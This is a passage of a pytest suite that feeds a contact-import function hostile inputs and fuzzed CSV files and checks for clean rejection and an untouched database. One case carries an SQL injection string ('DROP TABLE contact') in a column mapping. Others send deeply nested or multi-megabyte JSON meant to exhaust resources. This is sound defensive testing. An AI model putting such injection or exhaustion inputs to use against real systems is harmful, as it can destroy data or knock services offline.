        lines("phone,name", "5.55E+09,Sci", "2.12555E+09,Sci2", "2125550176.0,Float", "1.21255501E10,Sci3"),
        Rejected(("none of the 4 rows", "spreadsheet")),
    ),
    Case(
        "unicode_digit_phones",
        lines("phone,name", "٢١٢٥٥٥٠١٧٩,Arabic-Indic", "２１２５５５０１８０,Fullwidth"),
        Imported(2, stored={"+12125550179": {"phone_raw": "٢١٢٥٥٥٠١٧٩"}, "+12125550180": {"name": "Fullwidth"}}),
    ),
    Case(
        "extension_kept",
        lines("phone,name", "(212) 555-0181 ext. 1234,Ext"),
        Imported(1, stored={"+12125550181": {"variables": {"extension": "1234"}}}),
    ),
    # ---- duplicates and the campaign's history
    Case(
        "every_number_is_call_history",
        lines(
            "phone,name",
            "(212) 555-0101,Again A",
            "+1 212 555 0102,Again B",
            "1-212-555-0103,Again C",
            "212.555.0101,Again A2",
        ),
        Imported(
            0,
            skipped=4,
            check=lambda r, db, cid: (
                (r.duplicates_in_campaign == 4 and r.duplicates_in_file == 0 and r.total_contacts == 3)
                or pytest.fail(f"counts: {r}")
            ),
        ),
    ),
    Case(
        "seed_pending_numbers_come_back_as_new_rows",
        lines("phone,name", "2125550105,Pending E New", "2125550104,Skipped D New", "2125550101,History"),
        Imported(
            2,
            skipped=1,
            stored={
                "+12125550105": {"name": "Pending E New", "status": "pending"},
                "+12125550104": {"name": "Skipped D New", "status": "pending"},
                "+12125550101": {"name": "Hist Completed A", "status": "completed"},
            },
        ),
    ),
    Case(
        "same_number_100000_times",
        same_number_100k,
        Imported(
            1,
            skipped=99_999,
            stored={"+12125550150": {"name": "Copy 0", "source_row": 2}},
            check=lambda r, db, cid: r.duplicates_in_file == 99_999 or pytest.fail(f"{r}"),
        ),
        limit=5.0,  # 100,000 rows: ~1 s when linear; a quadratic step would take minutes
    ),
    Case(
        "non_utf8_file_name",
        non_utf8_file_name,
        Imported(1, check=check_file_name_stored),
        platform="linux",
    ),
    # ---- column mappings
    Case("mapping_empty_string_means_auto", MAPPING_FILE, MAPPING_AUTO, mapping=""),
    Case(
        "mapping_case_and_space_in_target",
        MAPPING_FILE,
        MAPPING_OK,
        mapping='{"mobile": " PHONE_NUMBER ", "WHO": "Name"}',
    ),
    Case("mapping_5mb_of_whitespace", MAPPING_FILE, MAPPING_OK, mapping=mapping_5mb_padded),
    Case(
        "mapping_5mb_of_unknown_columns",
        MAPPING_FILE,
        Rejected(("names a column the file does not have", "'column number 0'", "'mobile'")),
        mapping=mapping_5mb_unknown_columns,
    ),
    Case(
        "mapping_5000_unknown_columns",
        MAPPING_FILE,
        Rejected(("names a column the file does not have",)),
        mapping=lambda: json.dumps({f"Column {i}": "name" for i in range(5000)}),
    ),
    Case(
        "mapping_5mb_key",
        MAPPING_FILE,
        Rejected(("names a column the file does not have",)),
        mapping=lambda: json.dumps({"k" * (5 * MB): "phone_number"}),
    ),
    Case(
        "mapping_5mb_target",
        MAPPING_FILE,
        Rejected(("unknown target for column 'notes'", "1 to 64 characters")),
        mapping=lambda: json.dumps({"Notes": "v" * (5 * MB)}),
    ),
    Case(
        "mapping_100000_nested_arrays",
        MAPPING_FILE,
        Rejected(("column mapping", "nested too deeply")),
        mapping=lambda: "[" * 100_000 + "]" * 100_000,
    ),
    Case(
        "mapping_100000_nested_objects",
        MAPPING_FILE,
        Rejected(("column mapping", "nested too deeply")),
        mapping=lambda: '{"a":' * 100_000 + "1" + "}" * 100_000,
    ),
    Case(
        "mapping_nested_target",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'",)),
        mapping=lambda: '{"Mobile": ' + "[" * 500 + "]" * 500 + "}",
    ),
    Case(
        "mapping_not_json",
        MAPPING_FILE,
        Rejected(("column mapping is not valid json",)),
        mapping="{'Mobile': 'phone_number'}",
    ),
    Case(
        "mapping_json_with_nul",
        MAPPING_FILE,
        Rejected(("column mapping is not valid json",)),
        mapping='{"Mobile": "phone_number"}\x00',
    ),
    Case(
        "mapping_is_a_list", MAPPING_FILE, Rejected(("must be a json object",)), mapping='[["Mobile", "phone_number"]]'
    ),
    Case("mapping_is_a_string", MAPPING_FILE, Rejected(("must be a json object",)), mapping='"Mobile"'),
    Case("mapping_is_a_number", MAPPING_FILE, Rejected(("must be a json object",)), mapping="42"),
    Case("mapping_is_null", MAPPING_FILE, Rejected(("must be a json object",)), mapping="null"),
    Case("mapping_is_true", MAPPING_FILE, Rejected(("must be a json object",)), mapping="true"),
    Case(
        "mapping_target_number",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'", "phone_number")),
        mapping='{"Mobile": 1}',
    ),
    Case(
        "mapping_target_boolean",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'",)),
        mapping='{"Mobile": true}',
    ),
    Case(
        "mapping_target_list",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'",)),
        mapping='{"Mobile": ["phone_number"]}',
    ),
    Case(
        "mapping_target_object",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'",)),
        mapping='{"Mobile": {"field": "phone_number"}}',
    ),
    Case(
        "mapping_target_with_braces",
        MAPPING_FILE,
        Rejected(("unknown target for column 'notes'", "braces")),
        mapping='{"Notes": "{{notes}}"}',
    ),
    Case(
        "mapping_target_with_control_chars",
        MAPPING_FILE,
        Rejected(("unknown target for column 'notes'",)),
        mapping='{"Notes": "tab\\there"}',
    ),
    Case(
        "mapping_two_phone_columns",
        MAPPING_FILE,
        Rejected(("two columns are mapped to phone_number",)),
        mapping='{"Mobile": "phone_number", "Who": "phone_number"}',
    ),
    Case(
        "mapping_ignores_the_phone_column",
        MAPPING_FILE,
        Rejected(("no phone number column",)),
        mapping='{"Mobile": null}',
    ),
    Case(
        "mapping_sql_column_name",
        MAPPING_FILE,
        Rejected(("names a column the file does not have", "drop table")),
        mapping='{"Mobile\'); DROP TABLE contact;--": "phone_number"}',
    ),
    Case(
        "mapping_5000_digit_number",
        MAPPING_FILE,
        Rejected(("column mapping",)),
        mapping=lambda: '{"Mobile": 1' + "0" * 5000 + "}",
    ),
    Case(
        "mapping_python_set_target",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'",)),
        mapping=lambda: {"Mobile": {"phone_number"}},
    ),
    Case(
        "mapping_python_bytes_target",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'",)),
        mapping=lambda: {"Mobile": b"phone_number"},
    ),
    Case(
        "mapping_python_100000_nested_lists",
        MAPPING_FILE,
        Rejected(("unknown target for column 'mobile'",)),
        mapping=deeply_nested_python_list,
    ),
]

assert len({case.id for case in CASES}) == len(CASES)


def _params():
    for case in CASES:
        marks = []
        if case.platform and not sys.platform.startswith(case.platform):
            marks.append(pytest.mark.skip(reason=f"needs {case.platform}"))
        yield pytest.param(case, id=case.id, marks=marks)


# --------------------------------------------------------------------------- running a case

_CHILD = textwrap.dedent("""
    import json, sys, time, traceback
    args = json.loads(sys.argv[1])
    from contactdesk.store import init_db
    init_db(args["db"])
    from contactdesk.core.importer import import_file
    mapping = None
    if args["mapping_file"]:
        with open(args["mapping_file"], encoding="utf-8") as handle:
            mapping = handle.read()
    print("ready", flush=True)
    start = time.perf_counter()
    try:
        out = {"result": import_file(args["campaign"], args["path"], mapping).to_dict()}
    except BaseException:
        out = {"traceback": traceback.format_exc()}
    out["elapsed"] = time.perf_counter() - start
    print(json.dumps(out), flush=True)
""")


def _run_isolated(campaign_id: int, path: Path, mapping, db_path: Path, limit: float, directory: Path):
    """import_file in a child process, killed when it runs past the limit."""
    mapping_file = None
    if mapping is not None:
        assert isinstance(mapping, str), "isolated cases take a JSON text mapping"
        mapping_file = directory / "mapping.json"
        mapping_file.write_text(mapping, encoding="utf-8")
    src = str(Path(contactdesk.__file__).resolve().parent.parent)
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [src, os.environ.get("PYTHONPATH")])))
    args = {
        "db": str(db_path),
        "campaign": campaign_id,
        "path": str(path),
        "mapping_file": str(mapping_file) if mapping_file else None,
    }
    stderr_path = directory / "child-stderr.txt"
    with stderr_path.open("wb") as stderr:
        proc = subprocess.Popen(
            [sys.executable, "-c", _CHILD, json.dumps(args)],
            env=env,
            stdout=subprocess.PIPE,
            stderr=stderr,
            text=True,
            encoding="utf-8",
        )
    try:
        ready = proc.stdout.readline()  # start-up (imports, opening the database) is not timed
        if ready.strip() != "ready":
            proc.wait(timeout=30)
            pytest.fail(f"the child process did not start: {ready}{stderr_path.read_text(errors='replace')}")
        try:
            out, _ = proc.communicate(timeout=limit + 1.0)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.communicate()
            pytest.fail(f"import_file took longer than {limit} s (killed)")
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    report = json.loads(out)
    if "traceback" in report:
        pytest.fail("import_file raised instead of returning a result:\n" + report["traceback"])
    result = SimpleNamespace(**report["result"])
    result.errors = [RowError(**e) for e in result.errors]
    return result, report["elapsed"]


def run_case(case: Case, campaign_id: int, path: Path, db_path: Path, directory: Path):
    mapping = case.mapping() if callable(case.mapping) else case.mapping
    if case.isolate:
        return _run_isolated(campaign_id, path, mapping, db_path, case.limit, directory)
    start = time.perf_counter()
    try:
        result = import_file(campaign_id, path, mapping)
    except Exception:  # noqa: BLE001 - any exception is the finding
        pytest.fail("import_file raised instead of returning a result:\n" + traceback.format_exc())
    return result, time.perf_counter() - start


def assert_readable(result) -> None:
    assert result.message, "every result has a message"
    assert len(result.message) <= MAX_MESSAGE, f"message of {len(result.message):,} characters"
    assert len(result.warnings) <= MAX_WARNINGS, f"{len(result.warnings):,} warnings"
    for warning in result.warnings:
        assert len(warning) <= MAX_MESSAGE, f"a warning of {len(warning):,} characters: {warning[:200]}..."


def assert_rejected(expect: Rejected, result, before, db_path) -> None:
    assert result.status == 400 and not result.success, f"{result.status}: {result.message[:500]}"
    message = result.message.lower()
    for fragment in expect.fragments:
        assert fragment.lower() in message, f"{fragment!r} not in {result.message[:500]!r}"
    assert_readable(result)
    assert snapshot(db_path) == before, "a rejected import changed the database"


def assert_imported(expect: Imported, result, before, db_path, campaign_id: int, file_name: str) -> None:
    assert result.status == 200 and result.success, f"{result.status}: {result.message[:500]}"
    counts = (result.imported_count, result.skipped_duplicates, result.invalid_count)
    assert counts == (expect.imported, expect.skipped, expect.invalid), f"(imported, skipped, invalid) = {counts}"
    assert result.rows_read == expect.imported + expect.skipped + expect.invalid
    assert result.removed_count == len(REPLACEABLE) and result.kept_count == len(HISTORY)
    assert_readable(result)

    after = snapshot(db_path)
    assert after["campaign"] == before["campaign"]
    assert after["import_run"][: len(before["import_run"])] == before["import_run"]
    assert len(after["import_run"]) == len(before["import_run"]) + 1
    (run,) = query(db_path, "SELECT * FROM import_run WHERE id = ?", (result.import_id,))
    assert run["outcome"] == "success" and run["file_name"].endswith(file_name[-8:])
    assert (run["imported_count"], run["skipped_duplicates"], run["invalid_count"]) == counts

    # Call history is kept byte for byte; pending and skipped seed rows are gone.
    before_rows = {row[0]: row for row in before["contact"]}
    after_rows = {row[0]: row for row in after["contact"]}
    statuses = contacts_by_status(db_path, campaign_id)
    for row in statuses.get("completed", []) + statuses.get("failed", []):
        assert after_rows[row["id"]] == before_rows[row["id"]]
    assert sorted(r["phone_number"] for r in statuses.get("completed", []) + statuses.get("failed", [])) == sorted(
        HISTORY
    )
    new = [row for row in statuses.get("pending", []) if row["import_run_id"] == result.import_id]
    assert len(new) == expect.imported and set(statuses) <= {"pending", "completed", "failed"}
    assert len(statuses.get("pending", [])) == expect.imported
    assert result.total_contacts == len(HISTORY) + expect.imported == sum(map(len, statuses.values()))

    stored = {row["phone_number"]: row for rows in statuses.values() for row in rows}
    for number, values in expect.stored.items():
        assert number in stored, f"{number} was not stored"
        for column, value in values.items():
            actual = stored[number][column]
            if column == "variables":
                actual = json.loads(actual)
            assert actual == value, f"{number} {column}: {actual!r} != {value!r}"
    for fragment in expect.warnings:
        found = any(fragment.lower() in w.lower() for w in result.warnings)
        assert found, f"no warning {fragment!r}: {result.warnings}"
    for fragment in expect.reasons:
        assert any(fragment in e.reason for e in result.errors), f"no reason {fragment!r}"
    if expect.check is not None:
        expect.check(result, db_path, campaign_id)


@pytest.mark.parametrize("case", list(_params()))
def test_hostile_input(case: Case, seeded, db_path, tmp_path):
    directory = tmp_path / "case"
    directory.mkdir()
    if callable(case.content):
        path = case.content(directory)
    else:
        path = directory / case.name
        path.write_bytes(case.content)
    before = snapshot(db_path)

    result, elapsed = run_case(case, seeded.id, path, db_path, directory)

    assert result.status != 500, f"500 for bad input: {result.message}"
    if isinstance(case.expect, Rejected):
        assert_rejected(case.expect, result, before, db_path)
    else:
        assert_imported(case.expect, result, before, db_path, seeded.id, path.name)
    assert elapsed <= case.limit, f"import_file took {elapsed:.2f} s (limit {case.limit} s)"


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 40
    assert sum(isinstance(c.expect, Rejected) for c in CASES) >= 15
    assert sum(isinstance(c.expect, Imported) for c in CASES) >= 15


# --------------------------------------------------------------------------- fuzzing


def check_fuzz_outcome(result, before, db_path, campaign_id: int) -> None:
    assert result.status in (200, 400), f"{result.status}: {result.message}"
    assert_readable(result)
    if result.status == 400:
        assert snapshot(db_path) == before
        return
    assert result.imported_count + result.skipped_duplicates + result.invalid_count == result.rows_read
    statuses = contacts_by_status(db_path, campaign_id)
    history = statuses.get("completed", []) + statuses.get("failed", [])
    assert sorted(r["phone_number"] for r in history) == sorted(HISTORY)
    before_rows = {row[0]: row for row in before["contact"]}
    after_rows = {row[0]: row for row in snapshot(db_path)["contact"]}
    assert all(after_rows[r["id"]] == before_rows[r["id"]] for r in history)
    assert len(statuses.get("pending", [])) == result.imported_count
    assert result.total_contacts == sum(map(len, statuses.values()))
    assert all(
        r["phone_number"].startswith("+") and r["phone_number"][1:].isdigit()
        for rows in statuses.values()
        for r in rows
    )


def fresh_seeded_campaign(directory: Path) -> int:
    campaign = create_campaign(f"Fuzz {next(_campaign_numbers)}")
    seed_campaign(campaign.id, directory)
    return campaign.id


PREFIXES = [
    b"",
    b"phone,name\n",
    b"phone;name\r\n2125550147;",
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"\xfe\xff",
    b"PK\x03\x04",
    b"sep=,\n",
    b'"',
    b"\x00",
]


@pytest.mark.slow
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    content=st.one_of(
        st.binary(max_size=2000),
        st.builds(lambda prefix, body: prefix + body, st.sampled_from(PREFIXES), st.binary(max_size=2000)),
    )
)
def test_fuzz_random_bytes(db_path, tmp_path, content):
    campaign_id = fresh_seeded_campaign(tmp_path)
    path = tmp_path / "fuzz.csv"
    path.write_bytes(content)
    before = snapshot(db_path)
    try:
        result = import_file(campaign_id, path)
    except Exception:  # noqa: BLE001 - any exception is the finding
        pytest.fail("import_file raised:\n" + traceback.format_exc())
    check_fuzz_outcome(result, before, db_path, campaign_id)


PHONE_CELL = st.one_of(
    st.from_regex(r"\+?1?[ -]?\(?[2-9]\d{2}\)?[ .-]?[2-9]\d{2}[ .-]?\d{4}", fullmatch=True),
    st.sampled_from(["5.55E+09", "2125550147.0", "2125550101", "(212) 555-0105", "", "x" * 70]),
)
TEXT_CELL = st.text(
    alphabet=st.one_of(
        st.characters(blacklist_categories=("Cs",)),
        st.sampled_from(['"', "'", ",", ";", "\t", "|", "\n", "\r", "\x00", "\ufeff", "=", "😀", "\u202e"]),
    ),
    max_size=15,
)
HEADER_CELL = st.one_of(
    st.sampled_from(
        [
            "phone",
            "Phone Number",
            "mobile",
            "Téléphone",
            "name",
            "email",
            "company",
            "notes",
            "first name",
            "last name",
            "",
            "phone",
            "Name",
        ]
    ),
    TEXT_CELL,
)
MAPPING_TARGET = st.one_of(
    st.sampled_from(["phone_number", "name", "email", "company", None, "", "PHONE_NUMBER", "{x}"]),
    st.text(max_size=10),
    st.integers(),
    st.booleans(),
    st.lists(st.integers(), max_size=2),
)


@st.composite
def csv_documents(draw):
    width = draw(st.integers(1, 6))
    header = draw(st.one_of(st.none(), st.lists(HEADER_CELL, min_size=width, max_size=width)))
    rows = draw(st.lists(st.lists(st.one_of(PHONE_CELL, TEXT_CELL), min_size=0, max_size=width + 2), max_size=15))
    delimiter = draw(st.sampled_from([",", ";", "\t", "|", ":", "#"]))
    style = draw(st.sampled_from(["minimal", "all", "raw"]))
    ending = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    records = ([header] if header is not None else []) + rows
    if style == "raw":  # no quoting at all: quotes, delimiters and newlines in values break the structure
        endings = draw(
            st.lists(st.sampled_from(["\n", "\r\n", "\r", ""]), min_size=len(records), max_size=len(records))
        )
        text = "".join(delimiter.join(r) + e for r, e in zip(records, endings))
    else:
        buffer = io.StringIO()
        quoting = csv.QUOTE_ALL if style == "all" else csv.QUOTE_MINIMAL
        csv.writer(buffer, delimiter=delimiter, lineterminator=ending, quoting=quoting).writerows(records)
        text = buffer.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"]))
    data = text.encode(encoding, errors="replace")
    columns = header if header is not None else [f"column_{i}" for i in range(1, width + 1)]
    key = st.one_of(st.sampled_from(columns), st.text(max_size=8))
    mapping = draw(
        st.one_of(
            st.none(),
            st.dictionaries(key, MAPPING_TARGET, max_size=4).map(json.dumps),
            st.dictionaries(key, MAPPING_TARGET, max_size=4),
            st.sampled_from(["", "[]", "null", "42", '"phone"', "{", '{"a": [[[[]]]]}']),
        )
    )
    return data, mapping


@pytest.mark.slow
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(document=csv_documents())
def test_fuzz_random_csv_structures(db_path, tmp_path, document):
    data, mapping = document
    campaign_id = fresh_seeded_campaign(tmp_path)
    path = tmp_path / "fuzz.csv"
    path.write_bytes(data)
    before = snapshot(db_path)
    try:
        result = import_file(campaign_id, path, mapping)
    except Exception:  # noqa: BLE001 - any exception is the finding
        pytest.fail("import_file raised:\n" + traceback.format_exc())
    check_fuzz_outcome(result, before, db_path, campaign_id)
